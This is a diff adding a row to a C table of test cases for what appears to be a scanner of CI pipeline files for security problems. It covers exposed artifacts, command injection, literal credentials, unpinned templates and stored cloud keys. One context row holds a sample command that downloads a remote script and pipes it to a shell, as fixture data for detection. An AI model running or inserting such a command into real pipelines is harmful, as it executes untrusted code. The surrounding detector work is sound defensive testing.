@@ -44,6 +44,7 @@ static const struct row rows[] = {
     {"an artifact with settings", ".gitlab-ci.yml", "b:\n  artifacts:\n    paths: [dist/, prod.env, .env.example, infra/tfplan]\n", "exposed_artifacts", "[\"prod.env\",\"infra/tfplan\"]"},
     {"lists of lists are one script", ".gitlab-ci.yml", "b:\n  script:\n    - [\"curl https://x.test/i | sh\"]\n", "piped_shell", "true"},
     {"a branch put into a command", "azure-pipelines.yml", "steps:\n  - script: echo $(Build.SourceVersionMessage)\n  - bash: echo $(Build.BuildId)\n", "run_injection", "[\"Build.SourceVersionMessage\"]"},
+    {"a service connection may hold a stored key", "azure-pipelines.yml", "steps:\n  - task: AzureCLI@2\n    inputs: {azureSubscription: production, inlineScript: az account show}\n", "static_cloud_keys", "?"},
     {"variables as a list", "azure-pipelines.yml", "variables:\n  - name: apiToken\n    value: " PASSWORD "\n  - group: x\n", "literal_credentials", "[\"apiToken\"]"},
     {"templates of another repository", "azure-pipelines.yml", "resources:\n  repositories:\n    - {repository: t, type: github, name: o/t}\n", "unpinned", "[\"o/t\"]"},
     {"a pipe by its tag", "bitbucket-pipelines.yml", "pipelines:\n  default:\n    - step:\n        script:\n          - pipe: vendor/ship:1.0.0\n          - pipe: atlassian/aws:1.0.0\n", "unpinned", "[\"vendor/ship:1.0.0\"]"},
